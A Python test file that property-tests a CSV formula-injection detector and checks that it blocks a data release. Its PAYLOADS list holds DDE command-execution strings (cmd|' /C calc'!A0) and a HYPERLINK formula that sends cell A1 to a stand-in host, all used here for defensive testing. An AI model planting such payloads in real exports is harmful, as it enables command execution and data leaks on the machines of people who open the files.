"""Class 6: formula injection is decided by one documented predicate, whatever the disguise.

``is_formula`` (Python) and ``formula_expr`` (polars, what the validator runs) are built from the
same patterns; the property tests generate prefixes behind leading blanks, DDE payloads and
plain signed numbers, and check that both say the same and that every disguise is caught.
"""

import json

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from claimtrace.validation.injection import formula_expr, is_formula
from hostile_factory import ROWS, csv_bytes
from hostile_guard import invoke, problems, releasable, validate_json

pytestmark = pytest.mark.timeout(120)
FAST = settings(max_examples=60, deadline=None)
BLANKS = [" ", "\u00a0", "\u3000", "\u2003", "\u200b", "\ufeff", "\x0b", "\x0c", "\n", "\x1f"]
PREFIXES = ["=", "+", "-", "@", "＝", "＋", "－", "＠"]
PAYLOADS = [
    "cmd|' /C calc'!A0",
    "2 +3+cmd|' /C calc'!A0",
    "1 cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1, "click")',
    "SUM(A1:A9)",
    'DDE("cmd";"/C calc";"!A0")',
    "1+1",
    "A1",
]
leading = st.lists(st.sampled_from(BLANKS), max_size=4).map("".join)
payload = st.sampled_from(PAYLOADS) | st.text(min_size=1, max_size=12).filter(
    lambda t: not t[0].isdigit()
)


def _polars(cells: list[str]) -> list[bool]:
    return pl.select(formula_expr(pl.lit(pl.Series(cells, dtype=pl.String)))).to_series().to_list()


@FAST
@given(cells=st.lists(st.tuples(leading, st.sampled_from(PREFIXES), payload), min_size=1))
def test_every_prefix_behind_any_leading_blanks_is_a_formula(cells):
    texts = [blank + prefix + rest for blank, prefix, rest in cells]
    assert all(is_formula(t) for t in texts), [t for t in texts if not is_formula(t)]
    assert _polars(texts) == [True] * len(texts)


@FAST
@given(cells=st.lists(st.tuples(st.sampled_from(["\t", "\r"]), st.text(max_size=8)), min_size=1))
def test_a_leading_tab_or_carriage_return_is_a_formula(cells):
    texts = [hidden + rest for hidden, rest in cells]
    assert all(is_formula(t) for t in texts) and all(_polars(texts))


@FAST
@given(
    cells=st.lists(
        st.tuples(leading, st.sampled_from(["=", "@", "+", "-"]), st.sampled_from(PAYLOADS)),
        min_size=1,
    )
)
def test_a_dde_payload_behind_any_prefix_and_blanks_is_a_formula(cells):
    texts = [blank + prefix + dde for blank, prefix, dde in cells]
    assert all(is_formula(t) for t in texts) and all(_polars(texts))


number = st.builds(
    lambda sign, whole, frac, pct: f"{sign}{whole}{frac}{pct}",
    st.sampled_from(["+", "-", "＋", "－"]),
    st.integers(0, 10**9).map(str),
    st.sampled_from(["", ".5", ",000", ".25"]),
    st.sampled_from(["", "%", " %"]),
)


@FAST
@given(cells=st.lists(number, min_size=1))
def test_a_plain_signed_number_is_not_a_formula(cells):
    assert not any(is_formula(c) for c in cells) and not any(_polars(cells))


@FAST
@given(cells=st.lists(st.text(max_size=20), min_size=1, max_size=40))
def test_python_and_polars_apply_the_same_predicate_to_any_text(cells):
    assert _polars(cells) == [is_formula(c) for c in cells]


@pytest.mark.parametrize(
    "value",
    ["-2 +3+cmd|' /C calc'!A0", " -2 +3+cmd|' /C calc'!A0", "-1 cmd|' /C calc'!A0", "\u3000=1+1"],
)
def test_the_reported_bypasses_are_caught_and_block_the_release(tmp_path, value):
    root = releasable(tmp_path / "pkg")
    rows = [dict(r) for r in ROWS["actors"]]
    rows[1]["description"] = value
    (root / "data" / "actors.csv").write_bytes(csv_bytes("actors", rows))
    code, report = validate_json(root)
    assert code == 1
    [hit] = problems(report, "injection.formula")
    assert (hit["table"], hit["row"], hit["field"]) == ("actors", 3, "description")
    assert hit["value"] == value
    out = tmp_path / "dist"
    result = invoke(["release", root, "--out", out], 1, env={"SOURCE_DATE_EPOCH": "1751976000"})
    assert "injection.formula" in result.stderr and not out.exists()
    assert json.loads(json.dumps(hit))["value"] == value  # JSON carries the exact cell
